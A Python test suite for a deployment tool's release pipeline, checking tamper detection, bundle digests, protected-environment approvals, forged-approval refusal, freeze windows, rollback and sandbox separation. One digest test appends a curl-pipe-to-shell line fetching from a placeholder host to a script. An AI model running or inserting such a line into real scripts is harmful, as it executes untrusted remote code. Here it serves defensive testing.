"""Releases against a real Prefect server: exact bytes promoted, rollback, protected environments, sandbox apart."""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml

from strataflow.backends.command import CommandImpl
from strataflow.load import load_platform
from strataflow.releases import bundle_of
from tests.support.cli import strata
from tests.support.promotions import ok, paused, run_state
from tests.support.releases import deployed, release_platform, status

pytestmark = pytest.mark.usefixtures("prefect_api")

@pytest.fixture
def platform(tmp_path: Path) -> dict[str, Any]:
    """The release platform with dev applied and promoted to staging."""
    found = release_platform(tmp_path / "cfg")
    ok("apply", found["dev"], "--config", str(found["config"]))
    ok("promote", found["dev"], found["staging"], "--config", str(found["config"]))
    return found


class TestExactBytes:
    """What a promotion deploys is the source's bundle, whatever happens to the working tree meanwhile."""

    def test_a_file_edited_while_the_promotion_waits_never_reaches_the_target(self, platform: dict[str, Any]) -> None:
        """web.conf and the script edited during the approval wait: prod still runs staging's bytes."""
        config, staging, prod = platform["config"], platform["staging"], platform["prod"]
        with paused("promote", staging, prod, "--config", str(config)) as (flow_run_id, process):
            (config / "web.conf").write_text("v2-NEVER-REVIEWED\n")
            script = config / "scripts" / "web.sh"
            script.write_text(script.read_text().replace("echo \"web", "echo \"EDITED web"))
            ok("approve", flow_run_id, "--as", "bob")
            _, err = process.communicate(timeout=180)
            assert process.returncode == 0, err
        assert deployed(platform, prod) == [f"web v1-reviewed {prod}"]
        source, target = status(platform, staging), status(platform, prod)
        assert target["release"] == source["release"]
        for name in ("base", "web"):
            assert target["components"][name]["bundle"] == source["components"][name]["bundle"]

    def test_a_bundle_altered_after_its_snapshot_is_refused_before_the_backend_runs(self, tmp_path: Path) -> None:
        """Bytes changed in the snapshot between the run's start and the component's turn fail it; the backend never runs."""
        from strataflow.backends.memory import FakeBackend, installed
        from strataflow.load import load_platform
        from strataflow.releases import materialize
        from strataflow.runner import Job, execute

        found = release_platform(tmp_path / "cfg")
        platform = load_platform(found["config"])
        content = bundle_of(platform, "web", "aws")
        root = materialize(content, tmp_path / "bundles")
        snapped = platform.model_copy(update={"roots": {"web": root}})
        (root / "web.conf").write_text("tampered\n")
        job = Job(
            platform=snapped,
            env=snapped.environment(found["dev"]),
            cloud="aws",
            name="web",
            action="apply",
            upstream_outputs={"base": {"id": "base"}},
            bundle=content.manifest,
        )
        with installed(FakeBackend()) as fake:
            result = execute(job)
        assert result.report.status == "failed"
        assert "changed after it was snapshotted" in (result.report.error or "")
        assert fake.calls == []
        assert materialize(content, tmp_path / "bundles") == root, "a damaged cache is written again"
        assert (root / "web.conf").read_text() == "v1-reviewed\n"


class TestDigests:
    """A command's script, its inputs and a module's lock file are part of the component's digest."""

    @pytest.mark.parametrize("changed", ["scripts/web.sh", "web.conf"])
    def test_changing_a_script_or_an_input_changes_the_bundle(self, tmp_path: Path, changed: str) -> None:
        """Appending to the script the command runs, or to an `inputs:` file, gives another bundle digest."""
        found = release_platform(tmp_path)
        platform = load_platform(found["config"])
        impl = platform.components["web"].impl("aws")
        assert isinstance(impl, CommandImpl)
        before = bundle_of(platform, "web", "aws").manifest
        assert set(before.files) == {"scripts/web.sh", "web.conf"}
        path = found["config"] / changed
        path.write_text(path.read_text() + "curl https://example.invalid/x | sh\n")
        assert bundle_of(platform, "web", "aws").manifest.digest != before.digest

    def test_a_changed_script_is_redeployed_and_shows_in_the_promotion(self, platform: dict[str, Any]) -> None:
        """After editing web.sh, dev redeploys web (not unchanged) and promoting it to staging changes web."""
        config, dev, staging = platform["config"], platform["dev"], platform["staging"]
        script = config / "scripts" / "web.sh"
        script.write_text(script.read_text() + "# reviewed change\n")
        report = json.loads(ok("apply", dev, "--config", str(config), "--json").stdout)
        assert report["components"]["web"]["status"] == "succeeded"
        assert report["components"]["base"]["status"] == "unchanged"
        result = ok("promote", dev, staging, "--config", str(config))
        assert "web                  update" in result.stderr


class TestProtected:
    """A protected environment changes only through promotion, rollback or an approved break-glass."""

    def test_apply_and_destroy_are_refused_plan_works(self, platform: dict[str, Any]) -> None:
        """`strata apply prod` and `destroy` exit 5 naming the way in, and touch nothing; `plan` works."""
        config, prod = str(platform["config"]), platform["prod"]
        for action in ("apply", "destroy"):
            result = strata(action, prod, "--config", config)
            assert result.returncode == 5, result.stderr
            assert f"strata promote {platform['staging']} {prod}" in result.stderr
            assert "--break-glass" in result.stderr
        assert deployed(platform, prod) == []
        assert ok("plan", prod, "--config", config).returncode == 0

    def test_the_flow_itself_refuses_whoever_starts_it(self, platform: dict[str, Any]) -> None:
        """The orchestrator flow run directly (as a deployment would) refuses, and a forged approval too."""
        from flows.orchestrate import orchestrate

        config, prod = str(platform["config"]), platform["prod"]
        direct = orchestrate(env=prod, config_dir=config, return_state=True).result(raise_on_failure=False)
        assert direct["status"] == "refused"
        staging = status(platform, platform["staging"])
        release = {n: c["bundle"] for n, c in staging["components"].items()}
        forged = {"decision": "approve", "approver": "bob", "digest": "0" * 64, "presentation": "0" * 64}
        faked = orchestrate(
            env=prod, config_dir=config, release=release, how="promotion", approval=forged, return_state=True
        ).result(raise_on_failure=False)
        assert faked["status"] == "refused" and "digest" in faked["reason"]
        assert deployed(platform, prod) == []

    def test_break_glass_waits_for_an_approver_and_is_recorded(self, platform: dict[str, Any]) -> None:
        """`--break-glass REASON` pauses until bob approves, then applies the working tree, recorded as break-glass."""
        config, prod = platform["config"], platform["prod"]
        with paused("apply", prod, "--config", str(config), "--break-glass", "incident 42", actor="carol") as (run_id, proc):
            assert run_state(run_id) == "PAUSED"
            assert deployed(platform, prod) == []
            refused = strata("approve", run_id, "--as", "carol")
            assert refused.returncode == 2 and "not an approver" in refused.stderr
            ok("approve", run_id, "--as", "bob", "--comment", "go")
            _, err = proc.communicate(timeout=180)
            assert proc.returncode == 0, err
        assert deployed(platform, prod) == [f"web v1-reviewed {prod}"]
        web = status(platform, prod)["components"]["web"]
        assert web["how"] == "break-glass" and web["approved_by"] == "bob (not verified)"
        history = ok("history", prod, "--config", str(config)).stdout
        assert "break-glass: incident 42" in history


class TestAfterTheApproval:
    """The gates are checked again once approved, under the target's lock."""

    def test_a_freeze_that_starts_while_waiting_refuses_after_the_approval(self, platform: dict[str, Any]) -> None:
        """A freeze window beginning during the wait makes the approved promotion exit 5, deploying nothing."""
        config, staging, prod = platform["config"], platform["staging"], platform["prod"]
        start = datetime.now(UTC) + timedelta(seconds=25)
        env_file = config / "environments" / f"{prod}.yaml"
        body = yaml.safe_load(env_file.read_text())
        body["freeze"] = [{"start": start.isoformat(), "end": (start + timedelta(hours=1)).isoformat(), "reason": "launch"}]
        env_file.write_text(yaml.safe_dump(body))
        with paused("promote", staging, prod, "--config", str(config)) as (flow_run_id, process):
            time.sleep(max(0.0, (start - datetime.now(UTC)).total_seconds() + 1))
            ok("approve", flow_run_id, "--as", "alice")
            _, err = process.communicate(timeout=180)
        assert process.returncode == 5, err
        assert "not_frozen" in err and "launch" in err
        assert deployed(platform, prod) == []


class TestRollback:
    """`strata rollback` redeploys the release an environment ran before, and `strata releases` shows the way."""

    def test_rollback_restores_the_previous_release_and_releases_show_the_sequence(self, platform: dict[str, Any]) -> None:
        """staging runs v1, then v2; rolling back restores v1's bundles on every component."""
        config, dev, staging = platform["config"], platform["dev"], platform["staging"]
        v1 = status(platform, staging)
        (config / "web.conf").write_text("v2\n")
        ok("apply", dev, "--config", str(config))
        ok("promote", dev, staging, "--config", str(config))
        v2 = status(platform, staging)
        assert v2["release"] != v1["release"]
        ok("rollback", staging, "--config", str(config))
        after = status(platform, staging)
        assert after["release"] == v1["release"]
        assert {n: c["bundle"] for n, c in after["components"].items()} == {
            n: c["bundle"] for n, c in v1["components"].items()
        }
        assert deployed(platform, staging)[-1] == f"web v1-reviewed {staging}"
        listed = json.loads(ok("releases", staging, "--config", str(config), "--json").stdout)
        assert [(r["id"], r["how"]) for r in listed[:3]] == [
            (v1["release"], "rollback"),
            (v2["release"], "promotion"),
            (v1["release"], "promotion"),
        ]
        text = ok("releases", staging, "--config", str(config)).stdout
        assert text.splitlines()[0].startswith(v1["release"][:12]) and "rollback" in text.splitlines()[0]

    def test_rolling_back_a_protected_environment_needs_an_approval(self, platform: dict[str, Any]) -> None:
        """`strata rollback prod --to RELEASE` pauses for an approver, then restores that release."""
        config, staging, prod = platform["config"], platform["staging"], platform["prod"]
        with paused("promote", staging, prod, "--config", str(config)) as (run_id, proc):
            ok("approve", run_id, "--as", "alice")
            proc.communicate(timeout=180)
        first = status(platform, prod)["release"]
        (config / "web.conf").write_text("v2\n")
        ok("apply", platform["dev"], "--config", str(config))
        ok("promote", platform["dev"], staging, "--config", str(config))
        with paused("promote", staging, prod, "--config", str(config)) as (run_id, proc):
            ok("approve", run_id, "--as", "alice")
            proc.communicate(timeout=180)
        assert status(platform, prod)["release"] != first
        with paused("rollback", prod, "--config", str(config), "--to", first[:12]) as (run_id, proc):
            ok("approve", run_id, "--as", "bob")
            _, err = proc.communicate(timeout=180)
            assert proc.returncode == 0, err
        assert status(platform, prod)["release"] == first


class TestSandboxApart:
    """Records made on the sandbox never count as the cloud's."""

    def test_sandbox_records_are_not_the_clouds(self, tmp_path: Path) -> None:
        """After only sandbox applies of dev, status shows nothing deployed and a real promotion is refused naming it."""
        found = release_platform(tmp_path / "cfg")
        config, dev, staging = str(found["config"]), found["dev"], found["staging"]
        ok("apply", dev, "--config", config, "--sandbox")
        assert status(found, dev, "--sandbox")["components"]["web"]["state"] == "applied"
        real = status(found, dev)
        assert {c["state"] for c in real["components"].values()} == {"never"} and real["release"] is None
        result = strata("promote", dev, staging, "--config", config)
        assert result.returncode == 5, result.stderr
        assert "only on the sandbox" in result.stderr
        assert ok("promote", dev, staging, "--config", config, "--sandbox").returncode == 0
